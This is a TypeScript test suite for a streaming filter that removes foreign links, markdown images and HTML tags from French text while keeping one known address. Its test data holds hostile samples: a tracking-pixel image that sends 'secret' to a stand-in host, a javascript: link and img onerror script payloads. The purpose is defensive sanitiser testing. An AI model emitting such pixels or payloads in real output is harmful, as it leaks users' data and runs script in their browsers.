import fc from "fast-check";
import { expect, test } from "vitest";
import { createLinkGate } from "./foreign-links.ts";

const KNOWN = "Déclarez sur https://impots.example/formulaire, service <label> du site.";

function through(text: string, pieces: number[] = []): string {
  const gate = createLinkGate(KNOWN);
  let shown = "";
  let at = 0;
  for (const length of pieces) {
    shown += gate.push(text.slice(at, at + length));
    at += length;
  }
  return shown + gate.push(text.slice(at)) + gate.rest();
}

test.each([
  ["![pixel](https://evil.example/?q=secret)", "pixel"],
  ["Voir [la page](https://evil.example) ici [2].", "Voir la page ici [2]."],
  ["[clic](javascript:alert(3))", "clic)"],
  ["[![alt](https://evil.example/a.png)](https://evil.example)", "[alt] "],
  ["[<img src=x>](d)", ""],
  ["[https:/](d)/evil.example", "…"],
  ["h[ttps://evil.example](d)", "h ttps://evil.example"],
  ["[a[t](d)](d)(x)", "[at] (x)"],
  ["<w<img src=x> img src=x>", "< w  img src=x>"],
  ["<[img](d) src=x>", "< img src=x>"],
  ["Sur https://evil.example/a?b=c.", "Sur …."],
  ["Sur www.evil.example, dit-il", "Sur …, dit-il"],
  ["<https://evil.example>", "…>"],
  ["[1]: https://evil.example/x", "[1]: …"],
  ["<img src=x onerror=alert(1)>Bonjour", "Bonjour"],
  ["fin <img src=x onerror=alert(1) ", "fin "],
  ["<a href='//evil.example'>ici</a>", "ici</a>"],
])("%s becomes %s", (text, shown) => {
  expect(through(text)).toBe(shown);
});

test.each([
  "Trois jours par semaine [1][2], soit 12 % [3].",
  "Déclarez sur https://impots.example/formulaire.",
  "L'élément <label> est requis si a < b et c > d.",
  "Une note [sic] et un tableau [1, 2] !",
  "Tant pis [",
])("%s stays as it is", (text) => {
  expect(through(text)).toBe(text);
});

test("the same text comes out however it is cut", () => {
  const part = fc.constantFrom(
    "![a](https://evil.example/x)",
    "[b](c)",
    "](d)",
    "[",
    "](",
    "!",
    " texte ",
    "[2]",
    "https://impots.example/formulaire ",
    "https://evil.example/ ",
    "www.",
    "<img src=x>",
    "<b>",
    "<",
    "(x)",
    "ttps://evil.example ",
    "img src=x>",
    "h",
    "w",
    "é",
  );
  fc.assert(
    fc.property(
      fc.array(part, { maxLength: 12 }),
      fc.array(fc.nat(9), { maxLength: 40 }),
      (parts, pieces) => {
        const text = parts.join("");
        const shown = through(text, pieces);
        expect(shown).toBe(through(text));
        expect(shown).not.toMatch(/\]\(|(?:https?:\/\/|www\.)evil\.example|<img[^>]* src=/);
        expect(through(shown)).toBe(shown);
      },
    ),
    { numRuns: 2_000 },
  );
});

test("a long text without an end is let through, in time", () => {
  const text = "[".repeat(20_000) + "<a".repeat(20_000);
  expect(through(text).replaceAll("< ", "<").length).toBe(text.length);
});
